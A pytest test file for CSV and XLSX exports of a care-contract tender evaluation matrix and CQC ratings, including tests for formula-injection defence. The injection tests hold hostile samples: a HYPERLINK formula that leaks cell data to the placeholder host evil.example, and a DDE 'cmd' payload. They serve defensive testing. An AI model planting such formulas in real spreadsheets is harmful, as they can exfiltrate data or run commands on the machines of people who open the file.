"""Evaluation matrix and CQC snapshot exports (CSV and XLSX), and formula-injection defence."""

from __future__ import annotations

import dataclasses
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from common.money import pennies, quantize_score
from reports.exports import (
    MONEY_FORMAT,
    SCORE_FORMAT,
    cqc_snapshot_frame,
    evaluation_matrix_frame,
    neutralise_formula,
    to_csv_bytes,
    to_xlsx_bytes,
    to_xlsx_workbook_bytes,
)
from reports.sample import sample_context

BILLED = "Price per billed hour, 50+10 min (£)"


@pytest.fixture(scope="module")
def report():
    return sample_context()


@pytest.fixture(scope="module")
def matrix(report):
    return evaluation_matrix_frame(report)


def _rows(report):
    return [(lot, row) for lot in report.lots for row in lot.rows]


def test_it_has_one_row_per_bid_per_lot_in_rank_order(report, matrix):
    expected = _rows(report)
    assert len(matrix) == len(expected) == 16
    assert list(zip(matrix["Lot"], matrix["Bid reference"], strict=True)) == [
        (lot.number, row.bid_ref) for lot, row in expected
    ]


def test_it_shows_prices_on_both_bases_and_the_cost_of_care_gap(matrix):
    wyre = matrix[(matrix["Lot"] == 2) & (matrix["Provider"] == "Wyre Coast Care Services Ltd")].iloc[0]
    assert wyre[BILLED] == Decimal("25.20")
    assert wyre["Price per contact hour (£)"] == Decimal("30.24")
    assert wyre["Model minimum per contact hour (£)"] == Decimal("31.55")
    assert wyre["Cost-of-care gap per contact hour (£)"] == Decimal("-1.31")
    assert wyre["Price check"] == "Below sustainable minimum"
    assert wyre["CQC rating"] == "Good"


def test_it_has_each_evaluators_score_and_the_consensus_per_question(matrix):
    ribble = matrix[(matrix["Lot"] == 3) & (matrix["Rank"] == 1)].iloc[0]
    assert ribble["Provider"] == "Ribble and Pendle Reablement CIC"
    assert ribble["Q1 consensus"] == Decimal("5.00")
    assert ribble["Q1 Evaluator 1"] == Decimal("5.00")
    assert ribble["Q1 Evaluator 3"] is None  # declared an interest, did not score
    assert ribble["Quality score"] == Decimal("49.80")
    assert ribble["Total"] == Decimal("89.10")
    assert ribble["Recommended"] == "Yes"


def test_it_lists_the_excluded_bid_without_scores(matrix):
    hilltop = matrix[matrix["Provider"] == "Hilltop Home Support Ltd"]
    assert list(hilltop["Lot"]) == [1, 4, 6]
    assert set(hilltop["Status"]) == {"Excluded"}
    assert hilltop["Total"].isna().all() and hilltop["Rank"].isna().all()
    assert "Inadequate on Safe" in hilltop.iloc[0]["Reason"]


def test_it_keeps_figures_as_decimal_never_float(matrix):
    for value in matrix.to_numpy().ravel():
        assert not isinstance(value, float), value


def test_the_xlsx_reopened_with_pandas_equals_the_evaluation_results(report):
    data = to_xlsx_bytes(evaluation_matrix_frame(report))
    back = pd.read_excel(io.BytesIO(data), sheet_name="Evaluation matrix", engine="openpyxl")
    expected = _rows(report)
    assert len(back) == len(expected)
    for (_, xrow), (lot, row) in zip(back.iterrows(), expected, strict=True):
        assert xrow["Lot"] == lot.number
        assert xrow["Provider"] == row.provider_name
        if row.rank is None:
            assert pd.isna(xrow["Rank"]) and pd.isna(xrow["Total"])
            continue
        assert int(xrow["Rank"]) == row.rank
        # Excel stores numbers as binary doubles; compare at the precision the report shows.
        assert quantize_score(Decimal(str(xrow["Total"]))) == quantize_score(row.total)
        assert quantize_score(Decimal(str(xrow["Quality score"]))) == quantize_score(row.quality_score)
        assert quantize_score(Decimal(str(xrow["Price score"]))) == quantize_score(row.price_score)
        assert pennies(Decimal(str(xrow[BILLED]))) == row.price_per_billed_hour
        assert pennies(Decimal(str(xrow["Price per contact hour (£)"]))) == pennies(row.price_per_contact_hour)
        assert (xrow["Recommended"] == "Yes") == row.recommended


def test_the_xlsx_has_number_formats_widths_a_frozen_header_and_filters(matrix):
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(matrix))).active
    headers = {cell.value: cell.column_letter for cell in sheet[1]}
    assert sheet[f"{headers[BILLED]}2"].number_format == MONEY_FORMAT
    assert sheet[f"{headers['Price per contact hour (£)']}2"].number_format == MONEY_FORMAT
    assert sheet[f"{headers['Total']}2"].number_format == SCORE_FORMAT
    assert sheet[f"{headers['Q1 consensus']}2"].number_format == SCORE_FORMAT
    assert sheet[f"{headers['Rank']}2"].number_format == "0"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet[1][-1].column_letter}{len(matrix) + 1}"
    assert sheet[1][0].font.bold
    widths = {h: sheet.column_dimensions[c].width for h, c in headers.items()}
    assert all(6 <= w <= 60 for w in widths.values())
    assert widths["Provider"] >= len("Pennine Enablement Partnership Ltd")
    assert widths["Lot"] < widths["Provider"]


def test_the_csv_has_a_bom_exact_decimals_and_reads_back(report, matrix):
    data = to_csv_bytes(matrix)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "Lune Valley Home Care Ltd" in text and "£" in text.splitlines()[0]
    assert ",27.95,33.54," in text
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == list(matrix.columns)
    assert back.loc[0, "Total"] == "83.01"
    assert back.loc[0, "Price per contact hour (£)"] == "33.54"
    assert back.loc[0, "Rank"] == "1"  # a whole number, never "1.0"
    assert back.loc[2, "Rank"] == ""  # the excluded bid


def test_the_cqc_snapshot_lists_every_bidder_with_the_inadequate_rating(report):
    frame = cqc_snapshot_frame(report)
    assert len(frame) == 5
    hilltop = frame[frame["Provider"] == "Hilltop Home Support Ltd"].iloc[0]
    assert hilltop["Safe"] == "Inadequate"
    assert hilltop["Outcome"] == "excluded"
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(frame, sheet_name="CQC ratings"))).active
    assert sheet.title == "CQC ratings"
    assert sheet["L2"].number_format == "dd/mm/yyyy"


def test_a_workbook_can_hold_both_sheets(report):
    data = to_xlsx_workbook_bytes(
        {"Evaluation matrix": evaluation_matrix_frame(report), "CQC ratings": cqc_snapshot_frame(report)},
        created=report.generated_at,
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Evaluation matrix", "CQC ratings"]
    assert book.properties.created.isoformat() == "2025-12-18T10:15:00"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+44 1772 000000", "'+44 1772 000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("＝1+1", "'＝1+1"),
        ("Lune Valley Home Care Ltd", "Lune Valley Home Care Ltd"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_it_neutralises_formula_injection(text, expected):
    assert neutralise_formula(text) == expected
    assert neutralise_formula(neutralise_formula(text)) == expected


def test_a_hostile_provider_name_lands_as_text_in_csv_and_xlsx(report):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    lot = report.lot(1)
    rows = (dataclasses.replace(lot.rows[0], provider_name=hostile, status_reason="@cmd|' /C calc'!A0"),)
    tampered = dataclasses.replace(report, lots=(dataclasses.replace(lot, rows=rows),))
    frame = evaluation_matrix_frame(tampered)

    csv_text = to_csv_bytes(frame).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text

    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    headers = {cell.value: cell.column_letter for cell in sheet[1]}
    provider = sheet[f"{headers['Provider']}2"]
    assert provider.data_type == "s"
    assert provider.value == "'" + hostile
    assert sheet[f"{headers['Reason']}2"].value.startswith("'@")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
